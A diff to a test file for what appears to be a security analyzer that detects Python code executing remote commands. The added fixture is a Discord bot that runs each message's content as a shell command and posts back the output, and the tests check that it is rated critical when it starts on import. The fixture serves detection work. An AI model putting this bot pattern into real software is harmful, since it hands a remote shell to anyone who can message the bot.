@@ -47,6 +47,17 @@ test.each([
   expect(await found(ON_MESSAGE + text)).toEqual([severity]);
 });
 
+const BOT = 'import discord, subprocess, threading\nc = discord.Client()\n@c.event\nasync def on_message(m):\n    await m.channel.send(subprocess.getoutput(m.content))\n';
+
+test.each([
+  ['is imported', 'c.run("t")\n', true],
+  ['is imported, in a thread', 'threading.Thread(target=c.run, args=("t",)).start()\n', true],
+  ['is asked to', 'def listen():\n    c.run("t")\n', false],
+  ['is a script', 'if __name__ == "__main__":\n    c.run("t")\n', false],
+])('a bot does what it is told as soon as its module %s', async (_, text, isUnasked) => {
+  expect((await found(BOT + text)).includes('critical')).toBe(isUnasked);
+});
+
 const RUN = 'import asyncssh, kombu, nats, pika, subprocess\ndef told(*given):\n    subprocess.getoutput(given[0])\n';
 
 test.each([
